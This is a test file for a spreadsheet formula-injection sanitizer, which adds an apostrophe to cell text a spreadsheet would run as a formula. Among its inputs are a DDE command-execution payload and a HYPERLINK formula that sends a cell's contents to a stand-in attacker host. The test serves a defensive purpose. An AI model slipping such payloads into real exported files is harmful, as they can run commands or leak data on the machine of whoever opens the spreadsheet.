import assert from 'node:assert/strict'
import { test } from 'node:test'
import { withoutFormula } from './formulas.ts'

test('what a spreadsheet would run gets an apostrophe', () => {
  for (const text of [
    '=1+1', '=cmd|\' /C calc\'!A0', '@SUM(1)', '-1+1', '+1+1', '-', '=', '+cmd', '-2-3', '+41 44 123', ' =1', '\u00a0=1', '\ufeff=1', '\0=1', '\t=1', '\r=1', '\n=1', '\tx', '\nx', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)',
    '=HYPERLINK("http://evil.example/?"&A1,"click")', '-1,=2', '+1e',
  ]) assert.equal(withoutFormula(text), `'${text}`)
})

test('everything else stays what it is, numbers with a sign included', () => {
  for (const text of ['', ' ', 'a', 'a=1', '1-1', '\'=1', '"=1"', '-5', '+5', '-1.50', '-1,5', '+1.234.567,89', '-1e5', '-1.5E-7', '2024-01-01', 'x@example.com', '(1)', '<b>=1</b>']) assert.equal(withoutFormula(text), text)
})
